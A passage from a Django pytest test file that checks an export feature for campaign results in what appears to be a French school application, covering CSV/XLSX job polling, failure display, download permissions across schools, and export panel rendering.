    assert ExportJob.objects.get().format == "xlsx"


def test_the_header_link_leads_to_the_exports_panel(client_of, teacher, collection):
    response = client_of(teacher).get(reverse("exports:start", args=[collection.pk]))

    assert response.url == reverse("analysis:results", args=[collection.pk]) + "#exports"
    assert not ExportJob.objects.exists()


def test_an_unknown_format_is_refused(client_of, teacher, collection):
    response = client_of(teacher).post(reverse("exports:start", args=[collection.pk]), {"format": "pdf"})

    assert response.status_code == 400 and not ExportJob.objects.exists()


def test_an_export_under_way_polls_every_two_seconds_with_its_progress(client_of, teacher, collection):
    job = ExportJob.objects.create(campaign=collection, format="csv", status=JobStatus.RUNNING, attempts=1,
                                   rows_done=40, rows_total=120, requested_at=timezone.now(),
                                   started_at=timezone.now())

    page = text(client_of(teacher).get(reverse("exports:status", args=[collection.pk, job.pk]),
                                       HTTP_HX_REQUEST="true"))

    assert f'hx-get="{reverse("exports:status", args=[collection.pk, job.pk])}"' in page
    assert 'hx-trigger="every 2s"' in page
    assert f'<label class="fr-label" for="export-progress-{job.pk}">' in page
    assert 'max="120" value="40"' in page and "Participations traitées : 40 sur 120" in page


def test_a_failed_export_says_so_and_stops_polling(client_of, teacher, collection):
    job = ExportJob.objects.create(campaign=collection, format="csv", status=JobStatus.FAILED, attempts=3,
                                   requested_at=timezone.now())

    page = text(client_of(teacher).get(reverse("exports:status", args=[collection.pk, job.pk])))

    assert "a échoué" in page and "hx-trigger" not in page


def test_any_member_of_the_school_downloads_the_file(
    client_of, teacher, correspondent, collection, django_capture_on_commit_callbacks,
):
    job = build(collection, teacher, capture=django_capture_on_commit_callbacks)

    assert client_of(correspondent).get(reverse("exports:download", args=[collection.pk, job.pk])).status_code == 200


@pytest.mark.parametrize("name", ["exports:status", "exports:download"])
def test_a_teacher_of_another_school_gets_404(
    client_of, teacher, teacher_of_another_school, collection, django_capture_on_commit_callbacks, name,
):
    job = build(collection, teacher, capture=django_capture_on_commit_callbacks)

    assert client_of(teacher_of_another_school).get(reverse(name, args=[collection.pk, job.pk])).status_code == 404


def test_a_teacher_of_another_school_cannot_start_an_export(client_of, teacher_of_another_school, collection):
    response = client_of(teacher_of_another_school).post(reverse("exports:start", args=[collection.pk]),
                                                         {"format": "csv"})

    assert response.status_code == 404 and not ExportJob.objects.exists()


def test_a_job_of_another_campaign_is_404(client_of, teacher, school, collection, django_capture_on_commit_callbacks):
    job = build(collection, teacher, capture=django_capture_on_commit_callbacks)
    other = CampaignFactory(organization=school, creator=teacher)

    assert client_of(teacher).get(reverse("exports:download", args=[other.pk, job.pk])).status_code == 404


def test_an_unfinished_export_has_no_file_to_download(client_of, teacher, collection):
    job = ExportJob.objects.create(campaign=collection, format="csv", requested_at=timezone.now())

    assert client_of(teacher).get(reverse("exports:download", args=[collection.pk, job.pk])).status_code == 404


def test_the_status_page_costs_the_same_queries_whatever_the_participants(client_of, teacher, collection):
    client = client_of(teacher)
    job = ExportJob.objects.create(campaign=collection, format="csv", requested_at=timezone.now())
    url = reverse("exports:status", args=[collection.pk, job.pk])
    client.get(url)

    with CaptureQueriesContext(connection) as few:
        client.get(url)
    for _ in range(30):
        ParticipationFactory(campaign=collection)
    with CaptureQueriesContext(connection) as many:
        client.get(url)

    assert len(few) == len(many)


def test_the_panel_offers_both_formats_and_the_last_file(collection, teacher, django_capture_on_commit_callbacks):
    done = build(collection, teacher, capture=django_capture_on_commit_callbacks)
    running = ExportJob.objects.create(campaign=collection, format="xlsx", status=JobStatus.RUNNING, attempts=1,
                                       requested_at=timezone.now(), started_at=timezone.now())

    html = render_to_string("analysis/export_panel.html", {
        "campaign": collection, "counts": {"shared": 1}, **export_tasks.export_latest(collection),
    })

    assert "Exporter les résultats (.csv)" in html and "Exporter (.xlsx)" in html
    assert '<div id="export-current" role="status" aria-live="polite">' in html
    assert f'hx-get="{reverse("exports:status", args=[collection.pk, running.pk])}"' in html
    assert reverse("exports:download", args=[collection.pk, done.pk]) in html
    assert "disabled" not in html


def test_the_panel_buttons_wait_for_a_first_result(collection):
    html = render_to_string("analysis/export_panel.html", {
        "campaign": collection, "counts": {"shared": 0}, **export_tasks.export_latest(collection),
    })

    assert html.count(" disabled ") == 2 and "Disponible dès le premier résultat reçu" in html
    assert "hx-trigger" not in html
